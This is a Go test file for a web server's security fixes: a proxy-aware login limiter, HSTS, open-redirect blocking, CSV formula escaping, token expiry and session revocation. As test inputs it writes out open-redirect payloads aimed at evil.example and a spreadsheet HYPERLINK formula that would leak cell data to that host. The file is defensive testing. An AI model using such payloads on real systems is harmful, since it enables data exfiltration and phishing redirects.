package server

import (
	"context"
	"crypto/tls"
	"encoding/csv"
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/fanzha/fanzha/internal/auth"
	"github.com/fanzha/fanzha/internal/db"
	"github.com/fanzha/fanzha/internal/db/dbtest"
	"github.com/fanzha/fanzha/internal/web"
	"github.com/fanzha/fanzha/internal/web/api"
)

// TestLoginLimiterProxiesAndReplicas: behind a configured proxy the audit
// log and the limiter see the real client (the right-most untrusted
// address), not what the client wrote; five wrong passwords slow down that
// user from that address on every replica, while the same user from another
// address still signs in; without --trusted-proxies the header is ignored.
func TestLoginLimiterProxiesAndReplicas(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		f := newFixture(t, d)
		proxies, _ := web.ParseTrustedProxies("127.0.0.1/32,::1")
		replica := func() *httptest.Server {
			s := New(web.Config{DB: d, Log: slog.New(slog.NewTextHandler(io.Discard, nil)), TrustedProxies: proxies})
			s.SetReady(true)
			srv := httptest.NewServer(s.Handler())
			t.Cleanup(srv.Close)
			return srv
		}
		a, b := replica(), replica()
		login := func(srv *httptest.Server, xff, user, pw string) int {
			body, _ := json.Marshal(api.LoginRequest{Username: user, Password: pw})
			req, _ := http.NewRequest("POST", srv.URL+"/api/v1/login", strings.NewReader(string(body)))
			req.Header.Set("Content-Type", "application/json")
			if xff != "" {
				req.Header.Set("X-Forwarded-For", xff)
			}
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			return resp.StatusCode
		}
		// The attacker writes a new fake address in front each time: the
		// proxy appends the real one, which is what counts.
		for i := 0; i < 5; i++ {
			srv := a
			if i%2 == 1 {
				srv = b
			}
			if st := login(srv, "10.0.0."+itoa(int64(i))+", 203.0.113.5", "offB", "wrong"); st != 401 {
				t.Fatalf("failure %d: %d", i, st)
			}
		}
		if st := login(b, "1.1.1.1, 203.0.113.5", "offB", "secret-offB"); st != 429 {
			t.Fatalf("6th try from the attacker's address on the other replica: %d, want 429", st)
		}
		if st := login(a, "198.51.100.7", "offB", "secret-offB"); st != 200 {
			t.Fatalf("the owner from another address: %d, want 200 (no global lock-out)", st)
		}
		var fake, real int
		ctx := context.Background()
		_ = d.QueryRow(ctx, `SELECT COUNT(*) FROM audit_log WHERE ip LIKE '10.0.0.%' OR ip = '1.1.1.1'`).Scan(&fake)
		_ = d.QueryRow(ctx, `SELECT COUNT(*) FROM audit_log WHERE username = 'offB' AND action = 'login_failed' AND ip = '203.0.113.5'`).Scan(&real)
		if fake != 0 || real != 6 {
			t.Errorf("audit: %d rows with client-written addresses, %d failures from the real address (want 0 and 6)", fake, real)
		}
		// The fixture's server trusts no proxy: the header changes nothing.
		if st := login(f.srv, "203.0.113.77", "offA", "secret-offA"); st != 200 {
			t.Fatalf("login without proxies: %d", st)
		}
		var ip string
		_ = d.QueryRow(ctx, `SELECT ip FROM audit_log WHERE username = 'offA' AND action = 'login' ORDER BY id DESC LIMIT 1`).Scan(&ip)
		if ip != "127.0.0.1" {
			t.Errorf("audit IP without trusted proxies: %q, want the peer 127.0.0.1", ip)
		}
	})
}

// TestHSTSAndSecureCookies: HSTS and Secure cookies when served over HTTPS,
// directly or behind a trusted proxy saying so; none over plain HTTP.
func TestHSTSAndSecureCookies(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		newFixture(t, d)
		proxies, _ := web.ParseTrustedProxies("127.0.0.1/32")
		s := New(web.Config{DB: d, Log: slog.New(slog.NewTextHandler(io.Discard, nil)), TrustedProxies: proxies})
		h := s.Handler()
		get := func(proto string, direct bool) *http.Response {
			r := httptest.NewRequest("GET", "/login", nil)
			r.RemoteAddr = "127.0.0.1:4000"
			if proto != "" {
				r.Header.Set("X-Forwarded-Proto", proto)
			}
			if direct {
				r.TLS = &tls.ConnectionState{}
			}
			w := httptest.NewRecorder()
			h.ServeHTTP(w, r)
			return w.Result()
		}
		for _, c := range []struct {
			proto  string
			direct bool
			want   bool
		}{{"", false, false}, {"http", false, false}, {"https", false, true}, {"", true, true}} {
			resp := get(c.proto, c.direct)
			hsts := resp.Header.Get("Strict-Transport-Security") != ""
			secure := strings.Contains(strings.Join(resp.Header.Values("Set-Cookie"), "\n"), "Secure")
			if hsts != c.want || secure != c.want {
				t.Errorf("proto %q direct %v: HSTS %v, Secure cookie %v; want %v", c.proto, c.direct, hsts, secure, c.want)
			}
		}
		// --secure-cookies always marks cookies and sends HSTS.
		s2 := New(web.Config{DB: d, Log: slog.New(slog.NewTextHandler(io.Discard, nil)), Secure: true})
		w := httptest.NewRecorder()
		s2.Handler().ServeHTTP(w, httptest.NewRequest("GET", "/login", nil))
		if w.Header().Get("Strict-Transport-Security") == "" {
			t.Error("no HSTS with --secure-cookies")
		}
	})
}

// TestLoginOpenRedirect: the reviewer's request no longer leaves the site,
// from the login page (signed in) and from the login form.
func TestLoginOpenRedirect(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		f := newFixture(t, d)
		c := newConsoleClient(t, f.srv.URL)
		lp := c.get("/login")
		m := csrfFieldRe.FindStringSubmatch(lp.body)
		a := c.post("/login", map[string][]string{"csrf_token": {m[1]}, "username": {"offA"}, "password": {"secret-offA"}, "next": {"/\t/evil.example"}})
		if a.status != http.StatusSeeOther || a.location != "/" {
			t.Fatalf("login form with a tab in next: %d → %q", a.status, a.location)
		}
		for _, q := range []string{"/%09/evil.example", "/%5Cevil.example", "%2F%2Fevil.example", "/%0d%0a/evil.example"} {
			if a := c.get("/login?next=" + q); a.status != http.StatusSeeOther || a.location != "/" {
				t.Errorf("GET /login?next=%s: %d → %q", q, a.status, a.location)
			}
		}
	})
}

// TestAuditCSVFormulaInjection: an anonymous attacker picks the username
// of a failed login; the admin's CSV export shows it as text, not as a
// formula a spreadsheet would run.
func TestAuditCSVFormulaInjection(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		f := newFixture(t, d)
		evil := `=HYPERLINK("http://evil.example/?"&A1,"点此查看")`
		body, _ := json.Marshal(api.LoginRequest{Username: evil, Password: "x"})
		if a := f.do(t, "POST", "/api/v1/login", "", string(body)); a.status != 401 {
			t.Fatalf("login: %d", a.status)
		}
		a := f.do(t, "GET", "/api/v1/audit/export", "admin", "")
		if a.status != 200 {
			t.Fatalf("export: %d", a.status)
		}
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(a.body, "\uFEFF"))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		found := false
		for _, r := range rows {
			for _, c := range r {
				if strings.HasPrefix(c, "=") || strings.HasPrefix(c, "@") || strings.HasPrefix(c, "+") {
					t.Errorf("cell starts a formula: %q", c)
				}
				if c == "'"+evil {
					found = true
				}
			}
		}
		if !found {
			t.Errorf("the username is not in the export as text: %.500s", a.body)
		}
	})
}

// TestExpiredTokenRefused: an API token past its expiry gets 401 with its
// own code.
func TestExpiredTokenRefused(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		f := newFixture(t, d)
		ctx := context.Background()
		u, err := auth.GetUserByName(ctx, d, "leader")
		if err != nil {
			t.Fatal(err)
		}
		old, _, err := auth.CreateTokenValid(ctx, d, u.ID, "old", 24*time.Hour, time.Now().Add(-25*time.Hour))
		if err != nil {
			t.Fatal(err)
		}
		f.tokens["old"] = old
		if a := f.do(t, "GET", "/api/v1/me", "old", ""); a.status != 401 || a.json["code"] != "token_expired" {
			t.Errorf("expired token: %d %s", a.status, a.body)
		}
		if a := f.do(t, "GET", "/api/v1/me", "leader", ""); a.status != 200 {
			t.Errorf("valid token: %d", a.status)
		}
	})
}

// TestOwnPasswordChangeKeepsThisSession: the admin changing their own
// password in one browser stays signed in there; their other browser is
// signed out.
func TestOwnPasswordChangeKeepsThisSession(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		f := newFixture(t, d)
		a, b := newConsoleClient(t, f.srv.URL), newConsoleClient(t, f.srv.URL)
		a.login("admin", "secret-admin")
		b.login("admin", "secret-admin")
		u, _ := auth.GetUserByName(context.Background(), d, "admin")
		r := a.post("/admin/users/"+itoa(u.ID)+"/password", map[string][]string{"csrf_token": {a.csrf()}, "password": {"Brand-new-pw-2026"}})
		if r.status != http.StatusSeeOther {
			t.Fatalf("change own password: %d %.300s", r.status, r.body)
		}
		if g := a.get("/"); g.status != 200 {
			t.Errorf("the browser that changed the password: %d → %s", g.status, g.location)
		}
		if g := b.get("/"); g.status != http.StatusSeeOther || !strings.HasPrefix(g.location, "/login") {
			t.Errorf("the other browser: %d → %s", g.status, g.location)
		}
	})
}
